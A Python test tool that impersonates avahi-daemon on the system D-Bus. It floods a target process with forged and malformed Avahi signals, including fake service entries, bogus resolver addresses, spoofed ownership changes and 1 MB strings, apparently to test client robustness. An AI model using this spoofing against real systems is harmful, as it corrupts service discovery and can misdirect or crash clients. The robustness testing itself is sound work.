#!/usr/bin/python3
# An unprivileged process on the sandbox's bus posing as avahi-daemon to one
# client process. Run it on host A as uid nobody:
#   setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 forger.py \
#     PID TYPE INSTANCE HOST STOP_FILE
# It finds PID's connections (ListNames, GetConnectionUnixProcessID) and the
# daemon objects alive (the daemon answers Introspect for any client's
# object), and floods them with every signal the daemon sends its clients,
# unicast and broadcast, plausible and malformed, until STOP_FILE exists, PID
# ends or 60 s passed. JSON lines: "flooding" after the first round, "done"
# with counts; "delivered" counts unicast signals to a connection still there
# at the end. ZELM_FORGER_ONLY=Member,... and ZELM_FORGER_PLAIN=1 (well-formed
# only) narrow the flood, to see one forgery's effect through the test.

import json
import os
import socket
import sys
import time

import dbus
import dbus.lowlevel

AVAHI = "org.freedesktop.Avahi"
KINDS = ("ServiceBrowser", "ServiceTypeBrowser", "ServiceResolver", "RecordBrowser", "EntryGroup")
ONLY = os.environ.get("ZELM_FORGER_ONLY", "").split(",")
PLAIN = os.environ.get("ZELM_FORGER_PLAIN") == "1"


def emit(**fields):
    print(json.dumps(fields, separators=(",", ":")), flush=True)


# (interface, member, signature, arguments) of the signals of an object of `kind`.
def signals(kind, type, instance, host, ifindex):
    i = AVAHI + "." + kind
    browsing = [(i, "AllForNow", "", []), (i, "CacheExhausted", "", []), (i, "Failure", "s", ["Not permitted"])]
    a, aaaa = dbus.ByteArray(b"\6\6\6\6"), dbus.ByteArray(bytes.fromhex("20010db8" + "0" * 21 + "666"))
    return {
        "ServiceBrowser": [(i, "ItemNew", "iisssu", [ifindex, 0, "EVIL injected", type, "local", 0]),
                           (i, "ItemRemove", "iisssu", [ifindex, 0, instance, type, "local", 0])] + browsing,
        "ServiceTypeBrowser": [(i, "ItemNew", "iissu", [ifindex, 0, "_evil._tcp", "local", 0]),
                               (i, "ItemRemove", "iissu", [ifindex, 0, type, "local", 0])] + browsing,
        "ServiceResolver": [(i, "Found", "iissssisqaayu", [ifindex, 0, instance, type, "local", "evil.local", 0,
                                                           "6.6.6.6", 6666, [dbus.ByteArray(b"evil=1")], 0])]
                           + browsing[2:],
        "RecordBrowser": [(i, "ItemNew", "iisqqayu", [ifindex, 0, host, 1, 1, a, 0]),
                          (i, "ItemNew", "iisqqayu", [ifindex, 1, host, 1, 28, aaaa, 0]),
                          (i, "ItemRemove", "iisqqayu", [ifindex, 0, host, 1, 1, a, 0])] + browsing,
        "EntryGroup": [(i, "StateChanged", "is", [3, "Local name collision"]),
                       (i, "StateChanged", "is", [4, "Not permitted"])],
        # The daemon's own, and the bus's word that it left or came back.
        "/": [(AVAHI + ".Server", "StateChanged", "is", [4, "Not permitted"]),
              (AVAHI + ".Server", "StateChanged", "is", [3, "Local name collision"])],
        "/org/freedesktop/DBus": [("org.freedesktop.DBus", "NameOwnerChanged", "sss", [AVAHI, ":1.1", ""]),
                                  ("org.freedesktop.DBus", "NameOwnerChanged", "sss", [AVAHI, "", ":6.66"])],
    }[kind]


# The signal as sent, then: no arguments, an array for the first value, a
# double and a string for an int32, an int32 for a string; or (huge) every
# string 1 MB long.
def shapes(signature, args, huge):
    types = list(dbus.Signature(signature))
    if huge:
        return [(signature or "s", [("E" * (1 << 20) if t == "s" else v) for t, v in zip(types, args)] or ["E" * (1 << 20)])]

    def swap(k, new, value):
        return "".join(types[:k] + [new] + types[k + 1:]), args[:k] + [value] + args[k + 1:]

    out = [(signature, args), ("", []), swap(0, "a" + types[0], [args[0]] * 2) if types else ("ai", [[6, 6]])]
    out += [swap(types.index("i"), "d", 6.66), swap(types.index("i"), "s", "6")] if "i" in types else [("i", [6])]
    out += [swap(types.index("s"), "i", 6)] if "s" in types else []
    return list({shape[0]: shape for shape in out}.values())[:1 if PLAIN else None]


class Forger:
    def __init__(self, pid, *names):
        self.pid, self.names = pid, names
        self.bus = dbus.SystemBus()
        self.driver = dbus.Interface(self.bus.get_object("org.freedesktop.DBus", "/org/freedesktop/DBus"), "org.freedesktop.DBus")
        self.ifindex = socket.if_nametoindex(os.environ["ZELM_SANDBOX_IF_A"])
        self.unicast, self.broadcast, self.huge_sent = {}, 0, set()
        # The daemon numbers its clients as they come: this one's number
        # tells where the target's, made before or after, lie.
        group = self.bus.get_object(AVAHI, "/").EntryGroupNew(dbus_interface=AVAHI + ".Server")
        self.bus.get_object(AVAHI, group).Free(dbus_interface=AVAHI + ".EntryGroup")
        self.client = int(group.split("/")[1][len("Client"):])
        self.max_n, self.max_m = self.client + 4, 24

    def targets(self):
        found = []
        for name in self.driver.ListNames():
            try:
                if name.startswith(":") and self.driver.GetConnectionUnixProcessID(name) == self.pid:
                    found.append(str(name))
            except dbus.DBusException:
                pass  # gone meanwhile
        return found

    def live_objects(self):
        found = []
        for n in range(max(1, self.client - 8), self.max_n + 1):
            for m in range(1, self.max_m + 1):
                for kind in KINDS:
                    path = "/Client%d/%s%d" % (n, kind, m)
                    xml = self.bus.call_blocking(AVAHI, path, "org.freedesktop.DBus.Introspectable", "Introspect", "", ())
                    if AVAHI + "." + kind in xml:
                        found.append((path, kind))
                        self.max_n, self.max_m = max(self.max_n, n + 4), max(self.max_m, m + 12)
        return found

    def send(self, path, kind, targets):
        for interface, member, signature, args in signals(kind, *self.names, self.ifindex):
            if ONLY != [""] and member not in ONLY:
                continue
            huge = (path, member) not in self.huge_sent  # once each: 1 MB strings
            self.huge_sent.add((path, member))
            for shape_signature, shape_args in shapes(signature, args, False) + (shapes(signature, args, True) if huge else []):
                for target in targets + [None]:
                    m = dbus.lowlevel.SignalMessage(path, interface, member)
                    if shape_signature:
                        m.append(signature=shape_signature, *shape_args)
                    if target:
                        m.set_destination(target)
                        self.unicast[target] = self.unicast.get(target, 0) + 1
                    else:
                        self.broadcast += 1
                    self.bus.send_message(m)

    def round(self):
        targets = self.targets()
        objects = self.live_objects() if targets else []
        for path, kind in objects + ([("/", "/"), ("/org/freedesktop/DBus", "/org/freedesktop/DBus")] if objects else []):
            self.send(path, kind, targets)
        self.bus.flush()
        return targets, objects


def main(pid, type, instance, host, stop_file):
    forger = Forger(int(pid), type, instance, host)
    deadline, rounds, seen = time.monotonic() + 60, 0, set()
    while time.monotonic() < deadline and not os.path.exists(stop_file) and os.path.exists("/proc/" + pid):
        targets, objects = forger.round()
        if not objects:
            time.sleep(0.05)  # nothing to aim at yet
            continue
        rounds += 1
        seen.update(path for path, _ in objects)
        if rounds == 1:
            emit(event="flooding", uid=os.getuid(), names=targets, objects=sorted(seen))
    # What was sent to a connection still there was queued to it, in order.
    still = forger.targets()
    emit(event="done", rounds=rounds, objects=sorted(seen), broadcast=forger.broadcast,
         unicast=sum(forger.unicast.values()), delivered=sum(n for c, n in forger.unicast.items() if c in still))


if __name__ == "__main__":
    try:
        main(*sys.argv[1:6])
    except (dbus.DBusException, TypeError) as error:
        print("forger: %s" % error, file=sys.stderr)
        sys.exit(2)
